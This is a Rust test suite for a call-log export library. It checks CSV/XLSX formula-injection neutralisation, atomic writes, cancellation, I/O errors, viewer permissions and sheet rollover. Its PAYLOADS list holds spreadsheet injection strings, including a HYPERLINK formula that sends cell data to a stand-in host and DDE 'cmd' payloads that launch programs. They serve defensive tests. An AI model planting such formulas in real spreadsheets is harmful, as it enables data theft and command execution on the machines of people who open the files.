//! Safety of the exports: formula injection vs phone numbers, atomic output on failure, cancel
//! and panicking callbacks, typed I/O errors, row caps, the viewer's rows and columns, sheet
//! rollover and Excel's cell limit, progress at a bounded rate.

mod common;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use calllog::export::{
    Column, CsvEncoding, CsvSink, ExportControl, ExportProfile, Field, Preset, Progress,
    Unencodable, XlsxSink, export_csv, export_xlsx,
};
use calllog::{Agent, CallRecord, Channel, Error, Role, Viewer, ts};
use common::*;

const PAYLOADS: [&str; 8] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
];
const PHONES: [&str; 4] = [
    "+81 3-1234-5678",
    "+48789789789",
    "03-1234-5678",
    "+7 (495) 123-45-67",
];

fn memo_calls() -> Vec<CallRecord> {
    PAYLOADS
        .iter()
        .chain(PHONES.iter())
        .enumerate()
        .map(|(i, s)| {
            let mut r = CallRecord::new(format!("c-{i}"), Channel::Voice).from(*s);
            r.staff_memo = Some(s.to_string());
            r.attempts = Some(i as u32);
            r
        })
        .collect()
}

fn memo_profile() -> ExportProfile {
    ExportProfile::columns(
        [Field::Id, Field::From, Field::StaffMemo, Field::Attempts].map(Column::from),
    )
}

#[test]
fn csv_neutralises_payloads_and_keeps_phone_numbers() {
    let dir = scratch("inject-csv");
    let calls = memo_calls();
    export_csv(
        dir.join("a.csv"),
        &calls,
        &memo_profile(),
        &ExportControl::new(),
    )
    .unwrap();
    let rows = csv_rows(&dir.join("a.csv"));
    for (i, p) in PAYLOADS.iter().enumerate() {
        assert_eq!(rows[i + 1][1], format!("'{p}"), "payload {p:?}");
        assert_eq!(rows[i + 1][2], format!("'{p}"));
        assert_eq!(rows[i + 1][3], i.to_string(), "numbers stay numbers");
    }
    // A phone number with separators after a sign would be computed by Excel: prefixed.
    // A plain signed number and a number without a sign are written as they are.
    for (i, p) in PHONES.iter().enumerate() {
        let want = match *p {
            "+81 3-1234-5678" | "+7 (495) 123-45-67" => format!("'{p}"),
            _ => p.to_string(),
        };
        assert_eq!(rows[PAYLOADS.len() + i + 1][1], want, "phone {p:?}");
    }
    // and they read back exactly
    let back = calllog::read::read_csv(dir.join("a.csv"), &memo_profile()).unwrap();
    for (a, b) in back.iter().zip(&calls) {
        assert_eq!(a.from, b.from);
        assert_eq!(a.staff_memo, b.staff_memo);
    }
}

#[test]
fn xlsx_quote_prefixes_payloads_and_keeps_values_exact() {
    let dir = scratch("inject-xlsx");
    let calls = memo_calls();
    let path = dir.join("a.xlsx");
    export_xlsx(&path, &calls, &memo_profile(), &ExportControl::new()).unwrap();
    let x = &xlsx_sheets(&path)[0].1;
    for (i, p) in PAYLOADS.iter().chain(PHONES.iter()).enumerate() {
        assert_eq!(text(&x[i + 1][1]), *p, "value unchanged");
        assert_eq!(
            x[i + 1][3],
            calamine::Data::Float(i as f64),
            "a number cell"
        );
    }
    let styles = xlsx_part(&path, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    let sheet = xlsx_part(&path, "xl/worksheets/sheet1.xml");
    let style_of = |cell: &str| -> Option<String> {
        let at = sheet.find(&format!("r=\"{cell}\""))?;
        let tag = &sheet[at..at + sheet[at..].find('>').unwrap()];
        tag.split(" s=\"")
            .nth(1)
            .map(|s| s.split('"').next().unwrap().to_string())
    };
    // B2 holds the first payload: quote-prefixed. So is every phone number with a leading
    // `+` (the value unchanged); `03-1234-5678` (the third) has no style.
    assert!(style_of("B2").is_some());
    assert!(style_of(&format!("B{}", PAYLOADS.len() + 2)).is_some());
    assert_eq!(style_of(&format!("B{}", PAYLOADS.len() + 4)), None);
    assert!(!sheet.contains("<f>"), "no formula cells");
}

#[test]
fn failure_leaves_no_file_and_never_clobbers_a_good_one() {
    let dir = scratch("atomic");
    let target = dir.join("calls.csv");
    std::fs::write(&target, "good file\n").unwrap();
    // CP932 cannot hold the Polish ą: error naming row 2 and the column.
    let mut p = ExportProfile::columns([Field::Id, Field::CustomerName].map(Column::from));
    p.csv.encoding = CsvEncoding::Cp932;
    let calls = vec![
        CallRecord::new("ok", Channel::Voice).customer_name("山田"),
        CallRecord::new("bad", Channel::Voice).customer_name("Wąsik"),
    ];
    match export_csv(&target, &calls, &p, &ExportControl::new()) {
        Err(Error::Unencodable {
            row,
            column,
            character,
            encoding,
        }) => {
            assert_eq!(
                (row, column.as_str(), character, encoding),
                (2, "customer_name", 'ą', "CP932")
            );
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "good file\n");
    assert_eq!(files(&dir), ["calls.csv"], "no temporary file left");
    // replacing instead is counted
    p.csv.unencodable = Unencodable::Replace;
    let s = export_csv(&target, &calls, &p, &ExportControl::new()).unwrap();
    assert_eq!(s.replaced_characters, 1);
    let bytes = std::fs::read(&target).unwrap();
    let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(&bytes);
    assert!(!bad);
    assert!(text.contains("W?sik") && text.contains("山田"));
}

#[test]
fn cancel_and_drop_leave_no_file() {
    for xlsx in [false, true] {
        let dir = scratch("cancel");
        let target = dir.join(if xlsx { "c.xlsx" } else { "c.csv" });
        std::fs::write(&target, "good").unwrap();
        let calls: Vec<_> = (0..5000)
            .map(|i| CallRecord::new(format!("c{i}"), Channel::Voice))
            .collect();
        let control = ExportControl::new().with_interval(Duration::ZERO);
        let token = control.cancel_token();
        let control = control.on_progress(move |p| {
            if p.rows >= 1000 {
                token.cancel();
            }
        });
        let p = ExportProfile::preset(Preset::ContactsSimple);
        let r = if xlsx {
            export_xlsx(&target, &calls, &p, &control)
        } else {
            export_csv(&target, &calls, &p, &control)
        };
        assert!(matches!(r, Err(Error::Cancelled)), "{r:?}");
        assert_eq!(std::fs::read(&target).unwrap(), b"good");
        assert_eq!(files(&dir).len(), 1, "{:?}", files(&dir));

        // a sink dropped before finish leaves nothing either
        let fresh = dir.join("fresh.out");
        if xlsx {
            let mut s = XlsxSink::create(&fresh, &p, &ExportControl::new()).unwrap();
            s.write(&calls[0]).unwrap();
        } else {
            let mut s = CsvSink::create(&fresh, &p, &ExportControl::new()).unwrap();
            s.write(&calls[0]).unwrap();
        }
        assert!(!fresh.exists());
        assert_eq!(files(&dir).len(), 1, "{:?}", files(&dir));
    }
}

#[test]
fn panicking_callback_is_an_error_and_later_exports_work() {
    let dir = scratch("panic");
    let calls: Vec<_> = (0..300)
        .map(|i| CallRecord::new(format!("c{i}"), Channel::Voice))
        .collect();
    let p = ExportProfile::preset(Preset::ContactsSimple);
    let bad = ExportControl::new()
        .with_interval(Duration::ZERO)
        .on_progress(|p| {
            if p.rows > 100 {
                panic!("callback bug at {}", p.rows)
            }
        });
    for xlsx in [false, true] {
        let target = dir.join(if xlsx { "p.xlsx" } else { "p.csv" });
        let r = if xlsx {
            export_xlsx(&target, &calls, &p, &bad)
        } else {
            export_csv(&target, &calls, &p, &bad)
        };
        match r {
            Err(Error::CallbackPanicked(msg)) => assert!(msg.contains("callback bug"), "{msg}"),
            other => panic!("{other:?}"),
        }
        assert!(!target.exists());
        let ok = if xlsx {
            export_xlsx(&target, &calls, &p, &ExportControl::new())
        } else {
            export_csv(&target, &calls, &p, &ExportControl::new())
        };
        assert_eq!(ok.unwrap().records, 300);
    }
    assert_eq!(files(&dir), ["p.csv", "p.xlsx"]);
}

#[test]
fn io_errors_name_the_path() {
    let dir = scratch("io");
    let missing = dir.join("no/such/dir/calls.csv");
    let p = ExportProfile::preset(Preset::ContactsSimple);
    let calls = [seed004_sms()];
    for xlsx in [false, true] {
        let r = if xlsx {
            export_xlsx(&missing, &calls, &p, &ExportControl::new())
        } else {
            export_csv(&missing, &calls, &p, &ExportControl::new())
        };
        match r {
            Err(Error::Io { path, source }) => {
                assert_eq!(path, missing);
                assert_eq!(source.kind(), std::io::ErrorKind::NotFound);
            }
            other => panic!("{other:?}"),
        }
    }
    // the target is a directory
    match export_csv(&dir, &calls, &p, &ExportControl::new()) {
        Err(Error::Io { path, .. }) => assert_eq!(path, dir),
        other => panic!("{other:?}"),
    }
}

#[test]
fn row_cap_fails_without_a_file() {
    let dir = scratch("cap");
    let calls: Vec<_> = (0..11)
        .map(|i| CallRecord::new(format!("c{i}"), Channel::Voice))
        .collect();
    let p = ExportProfile::preset(Preset::ContactsSimple);
    let r = export_csv(
        dir.join("c.csv"),
        &calls,
        &p,
        &ExportControl::new().with_row_cap(10),
    );
    assert!(matches!(r, Err(Error::RowCapExceeded { cap: 10 })), "{r:?}");
    assert!(files(&dir).is_empty());
    let ok = export_csv(
        dir.join("c.csv"),
        &calls[..10],
        &p,
        &ExportControl::new().with_row_cap(10),
    );
    assert_eq!(ok.unwrap().records, 10);
}

/// Seed 002: a supervisor's export has no price column (whatever was asked) and no other
/// group's row, in CSV and XLSX; an owner's has both.
#[test]
fn supervisor_export_has_no_price_and_no_other_group() {
    let dir = scratch("viewer");
    let calls = vec![seed002_accepted(), seed002_busy_other_group()];
    let sup = Viewer::supervisor("Мария", ["Продажи"]);
    let mut cols = ExportProfile::preset(Preset::CallHistory).columns;
    cols.push(Column::from(Field::ExtraData));
    let p = ExportProfile::columns(cols.clone())
        .viewer(sup.clone())
        .locale(calllog::Locale::Ru);
    let c = ExportControl::new();
    let s = export_csv(dir.join("s.csv"), &calls, &p, &c).unwrap();
    assert_eq!((s.records, s.skipped_records), (1, 1));
    assert_eq!(
        s.dropped_columns,
        ["price", "price_currency", "scenario_url", "extra_data"]
    );
    let x = export_xlsx(dir.join("s.xlsx"), &calls, &p, &c).unwrap();
    assert_eq!((x.records, x.skipped_records), (1, 1));
    let csv = csv_rows(&dir.join("s.csv"));
    let xl: Vec<Vec<String>> = xlsx_sheets(&dir.join("s.xlsx"))[0]
        .1
        .iter()
        .map(|r| r.iter().map(text).collect())
        .collect();
    for rows in [&csv, &xl] {
        assert_eq!(rows.len(), 2);
        for h in [
            "Цена",
            "Валюта",
            "Ссылка на сценарий",
            "Дополнительная информация о звонке",
        ] {
            assert!(
                !rows[0].contains(&h.to_string()),
                "{h} visible to a supervisor"
            );
        }
        assert!(
            rows[0].contains(&"Сценарий".to_string()),
            "scenario name without the link"
        );
        let all = rows.concat().join("|");
        assert!(!all.contains("vox-2") && !all.contains("Ольга"));
        assert!(
            !all.contains("1.50")
                && !all.contains("kit.voximplant.com")
                && !all.contains("sip_call_id")
        );
    }
    // the owner sees all
    let owner = ExportProfile::columns(cols).viewer(Viewer::new(Role::Owner));
    let s = export_csv(dir.join("o.csv"), &calls, &owner, &c).unwrap();
    assert_eq!((s.records, s.dropped_columns.len()), (2, 0));
    // an operator with the history switch sees only their own calls
    let op = ExportProfile::preset(Preset::CallHistory).viewer(Viewer::operator("Ольга", true));
    let s = export_csv(dir.join("op.csv"), &calls, &op, &c).unwrap();
    assert_eq!(s.records, 1);
    assert!(csv_rows(&dir.join("op.csv"))[1].contains(&"Ольга".to_string()));
    let op_off = op.clone().viewer(Viewer::operator("Ольга", false));
    assert_eq!(
        export_csv(dir.join("op.csv"), &calls, &op_off, &c)
            .unwrap()
            .records,
        0
    );
}

#[test]
fn sheet_rollover_repeats_the_header() {
    let dir = scratch("rollover");
    let calls: Vec<_> = (0..10)
        .map(|i| CallRecord::new(format!("c{i}"), Channel::Voice).agent(Agent::named("A")))
        .collect();
    let mut p = ExportProfile::preset(Preset::ContactsSimple);
    p.xlsx.max_rows_per_sheet = 4; // header + 3 rows
    let s = export_xlsx(dir.join("r.xlsx"), &calls, &p, &ExportControl::new()).unwrap();
    assert_eq!((s.rows, s.sheets), (10, 4));
    let sheets = xlsx_sheets(&dir.join("r.xlsx"));
    assert_eq!(
        sheets.iter().map(|s| s.0.as_str()).collect::<Vec<_>>(),
        ["Kontakty", "Kontakty (2)", "Kontakty (3)", "Kontakty (4)"]
    );
    let mut ids = Vec::new();
    for (_, rows) in &sheets {
        assert_eq!(text(&rows[0][0]), "ID połączenia");
        assert!(rows.len() <= 4);
        ids.extend(rows[1..].iter().map(|r| text(&r[0])));
    }
    assert_eq!(ids, (0..10).map(|i| format!("c{i}")).collect::<Vec<_>>());
    let sheet = xlsx_part(&dir.join("r.xlsx"), "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<pane ySplit=\"1\""), "frozen header");
    assert!(
        sheet.contains("<autoFilter ref=\"A1:S4\""),
        "autofilter over the sheet"
    );
    // detailed rows also roll over
    p.layout = calllog::export::Layout::Detailed {
        repeat_contact_fields: true,
    };
    p.columns.push(Column::from(Field::IvrNode));
    let s = export_xlsx(
        dir.join("d.xlsx"),
        [&seed004_ivr(), &seed004_ivr()],
        &p,
        &ExportControl::new(),
    )
    .unwrap();
    assert_eq!((s.records, s.rows, s.sheets), (2, 6, 2));
}

#[test]
fn long_text_is_cut_in_xlsx_and_counted() {
    let dir = scratch("long");
    let mut r = CallRecord::new("long", Channel::Chat);
    r.chat_log = Some("ログ".repeat(20_000)); // 40,000 characters
    r.staff_memo = Some("x".repeat(32_767)); // exactly at the limit: kept
    let p = ExportProfile::columns([Field::Id, Field::ChatLog, Field::StaffMemo].map(Column::from));
    let s = export_xlsx(dir.join("l.xlsx"), [&r], &p, &ExportControl::new()).unwrap();
    assert_eq!(s.truncated_cells, 1);
    let x = &xlsx_sheets(&dir.join("l.xlsx"))[0].1;
    assert_eq!(text(&x[1][1]).chars().count(), 32_767);
    assert_eq!(text(&x[1][2]).chars().count(), 32_767);
    let s = export_csv(dir.join("l.csv"), [&r], &p, &ExportControl::new()).unwrap();
    assert_eq!(s.truncated_cells, 0);
    assert_eq!(csv_rows(&dir.join("l.csv"))[1][1].chars().count(), 40_000);
}

#[test]
fn progress_is_bounded_and_ends_with_the_file_size() {
    let dir = scratch("progress");
    let calls: Vec<_> = (0..10_000)
        .map(|i| CallRecord::new(format!("c{i}"), Channel::Voice))
        .collect();
    let mut p = ExportProfile::preset(Preset::ContactsSimple);
    // record by record (threads report between steps of 1,024 to 4,096 records:
    // tests/csv_threads.rs)
    p.csv.threads = 1;
    for xlsx in [false, true] {
        let seen = Arc::new(Mutex::new(Vec::<Progress>::new()));
        let log = seen.clone();
        let c = ExportControl::new()
            .with_total(10_000)
            .with_interval(Duration::ZERO)
            .on_progress(move |p| log.lock().unwrap().push(*p));
        let target = dir.join(if xlsx { "p.xlsx" } else { "p.csv" });
        let s = if xlsx {
            export_xlsx(&target, &calls, &p, &c)
        } else {
            export_csv(&target, &calls, &p, &c)
        }
        .unwrap();
        let seen = seen.lock().unwrap();
        // at most one call per 64 rows, plus the final one
        assert!(seen.len() <= 10_000 / 64 + 1, "{}", seen.len());
        assert!(seen.len() > 10);
        assert!(seen.windows(2).all(|w| w[0].rows <= w[1].rows));
        let last = seen.last().unwrap();
        assert!(last.done);
        assert_eq!((last.rows, last.total), (10_000, Some(10_000)));
        assert_eq!(last.bytes, std::fs::metadata(&target).unwrap().len());
        assert_eq!(last.bytes, s.bytes);
        assert!(seen[..seen.len() - 1].iter().all(|p| !p.done));
    }
    // with the default 100 ms interval a fast export reports only a few times
    let count = Arc::new(Mutex::new(0));
    let n = count.clone();
    let c = ExportControl::new().on_progress(move |_| *n.lock().unwrap() += 1);
    export_csv(dir.join("q.csv"), &calls, &p, &c).unwrap();
    assert!(*count.lock().unwrap() < 50);
}

#[test]
fn the_control_drives_an_export_on_another_thread() {
    let dir = scratch("thread");
    let control = ExportControl::new();
    let token = control.cancel_token();
    let path = dir.join("t.csv");
    let worker = std::thread::spawn(move || {
        let p = ExportProfile::preset(Preset::ContactsSimple);
        let mut sink = CsvSink::create(&path, &p, &control)?;
        for i in 0.. {
            sink.write(
                &CallRecord::new(format!("c{i}"), Channel::Voice)
                    .started_at(ts("2024-01-01T00:00:00Z")),
            )?;
            if i == 1_000_000 {
                break;
            }
        }
        sink.finish()
    });
    std::thread::sleep(Duration::from_millis(20));
    token.cancel();
    assert!(matches!(worker.join().unwrap(), Err(Error::Cancelled)));
    assert!(files(&dir).is_empty());
}

/// A tiny tmpfs: a real full disk. `None` (with a visible line) where mounting is refused.
struct Tmpfs(std::path::PathBuf);

impl Tmpfs {
    fn mount(size: &str) -> Option<Tmpfs> {
        let dir = std::env::temp_dir().join(format!(
            "calllog-tmpfs-{}-{size}-{:?}",
            std::process::id(),
            std::thread::current().id()
        ));
        std::fs::create_dir_all(&dir).ok()?;
        let ok = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(&dir)
            .stderr(std::process::Stdio::null())
            .status()
            .map(|s| s.success())
            .unwrap_or(false);
        if !ok {
            eprintln!("SKIPPED: cannot mount a tmpfs here (needs root); full-disk case not run");
            let _ = std::fs::remove_dir(&dir);
            return None;
        }
        Some(Tmpfs(dir))
    }

    /// Makes the mount read-only (what it holds stays readable).
    fn remount_ro(&self) -> bool {
        std::process::Command::new("mount")
            .args(["-o", "remount,ro"])
            .arg(&self.0)
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
        let _ = std::fs::remove_dir(&self.0);
    }
}

#[test]
fn a_full_disk_is_a_typed_io_error_for_both_formats_and_keeps_the_old_file() {
    let Some(fs) = Tmpfs::mount("512k") else {
        return;
    };
    let records: Vec<CallRecord> = calllog::sample::generate(20_000, 3).collect();
    let profile = ExportProfile::preset(Preset::Overview);
    for name in ["calls.csv", "calls.xlsx"] {
        let target = fs.0.join(name);
        std::fs::write(&target, b"the old file").unwrap();
        let r = if name.ends_with(".csv") {
            export_csv(&target, &records, &profile, &ExportControl::new())
        } else {
            export_xlsx(&target, &records, &profile, &ExportControl::new())
        };
        match r {
            Err(Error::Io { path, source }) => {
                assert_eq!(path, target, "{name}");
                assert_eq!(source.raw_os_error(), Some(28), "{name}: {source}");
            }
            other => panic!("{name}: expected a typed no-space error, got {other:?}"),
        }
        assert_eq!(std::fs::read(&target).unwrap(), b"the old file", "{name}");
        let left: Vec<_> = std::fs::read_dir(&fs.0)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(
            left,
            [std::ffi::OsString::from(name)],
            "{name}: left behind"
        );
        std::fs::remove_file(&target).unwrap();
    }
    // the process lives on, and the next export (to a disk with room) works
    let dir = scratch("after-full");
    let ok = export_xlsx(
        dir.join("ok.xlsx"),
        &records[..10],
        &profile,
        &ExportControl::new(),
    );
    assert_eq!(ok.unwrap().rows, 10);
}

#[test]
fn a_failing_final_progress_call_fails_the_export_and_keeps_the_old_file() {
    let dir = scratch("final-call");
    let records: Vec<CallRecord> = calllog::sample::generate(50, 3).collect();
    let profile = ExportProfile::preset(Preset::Overview);
    for name in ["calls.csv", "calls.xlsx"] {
        let target = dir.join(name);
        std::fs::write(&target, b"the old file").unwrap();
        let control = ExportControl::new().try_on_progress(|p| {
            if p.done {
                Err("the listener raised".into())
            } else {
                Ok(())
            }
        });
        let r = if name.ends_with(".csv") {
            export_csv(&target, &records, &profile, &control)
        } else {
            export_xlsx(&target, &records, &profile, &control)
        };
        assert!(
            matches!(&r, Err(Error::CallbackFailed(m)) if m == "the listener raised"),
            "{name}: {r:?}"
        );
        assert_eq!(std::fs::read(&target).unwrap(), b"the old file", "{name}");
    }
    let left = std::fs::read_dir(&dir).unwrap().count();
    assert_eq!(left, 2, "no temporary file is left");
}

/// The README's injection table holds for the rule functions both sinks call: each CSV cell is
/// what `neutralise_csv` gives and `read_csv` restores; the quote prefix is set exactly where it says.
#[test]
fn the_readme_injection_table_holds() {
    use calllog::export::safety::{is_formula_like, neutralise_csv, restore_csv};
    let readme = include_str!("../../README.md");
    let start = readme
        .find("### Formula injection")
        .expect("the table's section");
    let cell = |c: &str| -> String {
        let c = c.trim();
        let a = c.find('`').unwrap() + 1;
        let b = a + c[a..].find('`').unwrap();
        c[a..b].to_string()
    };
    let mut rows = 0;
    for line in readme[start..].lines().skip(1) {
        if line.starts_with("###") {
            break;
        }
        let cols: Vec<&str> = line.split('|').collect();
        if cols.len() != 5 || !cols[1].contains('`') {
            continue;
        }
        let (input, csv, xlsx) = (cell(cols[1]), cell(cols[2]), cols[3]);
        let written = neutralise_csv(&input).unwrap_or_else(|| input.clone());
        assert_eq!(written, csv, "CSV cell of {input:?}");
        assert_eq!(restore_csv(&written), input, "read back of {input:?}");
        assert_eq!(cell(xlsx), input, "XLSX value of {input:?} unchanged");
        assert_eq!(
            is_formula_like(&input),
            xlsx.contains("quote prefix"),
            "XLSX quote prefix of {input:?}"
        );
        rows += 1;
    }
    assert!(rows >= 20, "{rows} rows read");
}

/// One rounding rule: a date-time or clock duration shown in whole seconds is cut to its second
/// in both formats. XLSX used to keep the milliseconds under `hh:mm:ss`, which LibreOffice and
/// Excel round: 23:59:59.979 showed as the next day's 00:00:00 while the CSV said 23:59:59.
#[test]
fn csv_and_xlsx_agree_on_the_second_and_the_day() {
    let dir = scratch("rounding");
    let mut r = CallRecord::new("r-1", Channel::Voice);
    r.timeline.started_at = Some(ts("2024-05-31T23:59:59.979Z"));
    r.timeline.talk_started_at = Some(ts("2024-05-31T23:59:59.979Z"));
    r.timeline.talk_ended_at = Some(ts("2024-06-01T00:00:59.958Z")); // talk 59.979 s
    let cols = ExportProfile::column_ids(["started_at", "talk"]).unwrap();
    let clock = cols
        .clone()
        .durations(calllog::export::DurationFormat::Clock);
    export_csv(dir.join("r.csv"), [&r], &clock, &ExportControl::new()).unwrap();
    export_xlsx(dir.join("r.xlsx"), [&r], &clock, &ExportControl::new()).unwrap();
    let csv = csv_rows(&dir.join("r.csv"));
    assert_eq!(csv[1][0], "2024-05-31 23:59:59");
    assert!(csv[1][1].starts_with("0:00:59"), "{}", csv[1][1]);
    let sheets = xlsx_sheets(&dir.join("r.xlsx"));
    let row = &sheets[0].1[1];
    let serial = |d: &calamine::Data| match d {
        calamine::Data::Float(f) => *f,
        calamine::Data::DateTime(x) => x.as_f64(),
        other => panic!("not a number: {other:?}"),
    };
    // 2024-05-31 is serial 45443; 23:59:59 is 86399 s into it
    let secs = ((serial(&row[0]) - 45443.0) * 86_400.0).round() as i64;
    assert_eq!(secs, 86_399, "the XLSX date-time is the CSV's second");
    let talk = (serial(&row[1]) * 86_400.0).round() as i64;
    assert_eq!(talk, 59, "the XLSX clock duration is the CSV's second");

    // a format that shows milliseconds keeps them
    let mut ms = cols.clone();
    ms.xlsx.datetime_format = "yyyy-mm-dd hh:mm:ss.000".into();
    export_xlsx(dir.join("ms.xlsx"), [&r], &ms, &ExportControl::new()).unwrap();
    let sheets = xlsx_sheets(&dir.join("ms.xlsx"));
    let ms_value = (serial(&sheets[0].1[1][0]) - 45443.0) * 86_400.0;
    assert!((ms_value - 86_399.979).abs() < 0.001, "{ms_value}");
}

#[test]
fn a_read_only_mount_is_a_typed_io_error_and_keeps_the_old_file() {
    let Some(fs) = Tmpfs::mount("1m") else {
        return;
    };
    let records: Vec<CallRecord> = calllog::sample::generate(100, 3).collect();
    let profile = ExportProfile::preset(Preset::Overview);
    for name in ["calls.csv", "calls.xlsx"] {
        std::fs::write(fs.0.join(name), "the old file").unwrap();
    }
    assert!(fs.remount_ro(), "remount read-only");
    for name in ["calls.csv", "calls.xlsx"] {
        let target = fs.0.join(name);
        let r = if name.ends_with("csv") {
            export_csv(&target, &records, &profile, &ExportControl::new())
        } else {
            export_xlsx(&target, &records, &profile, &ExportControl::new())
        };
        match r {
            Err(Error::Io { source, .. }) => assert_eq!(source.raw_os_error(), Some(30), "EROFS"),
            other => panic!("{name}: expected an EROFS Io error, got {other:?}"),
        }
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "the old file");
    }
    assert_eq!(files(&fs.0), vec!["calls.csv", "calls.xlsx"]);
}

/// The target's directory is removed while the export runs (a cleanup job, a user): a typed
/// error, no panic, nothing left, and the next export works.
#[test]
fn a_directory_that_vanishes_mid_export_is_a_typed_error() {
    let records: Vec<CallRecord> = calllog::sample::generate(30_000, 3).collect();
    let profile = ExportProfile::preset(Preset::Overview);
    for name in ["calls.csv", "calls.xlsx"] {
        let dir = scratch("vanish");
        let target = dir.join(name);
        let gone = dir.clone();
        let control = ExportControl::new()
            .with_interval(Duration::ZERO)
            .on_progress(move |p| {
                if !p.done {
                    let _ = std::fs::remove_dir_all(&gone);
                }
            });
        let r = if name.ends_with("csv") {
            export_csv(&target, &records, &profile, &control)
        } else {
            export_xlsx(&target, &records, &profile, &control)
        };
        match r {
            Err(Error::Io { .. }) | Err(Error::Xlsx(_)) => {}
            other => panic!("{name}: expected a typed error, got {other:?}"),
        }
        assert!(!dir.exists(), "nothing recreated the directory");
        let again = scratch("vanish-again").join(name);
        if name.ends_with("csv") {
            export_csv(&again, &records[..10], &profile, &ExportControl::new()).unwrap();
        } else {
            export_xlsx(&again, &records[..10], &profile, &ExportControl::new()).unwrap();
        }
    }
}
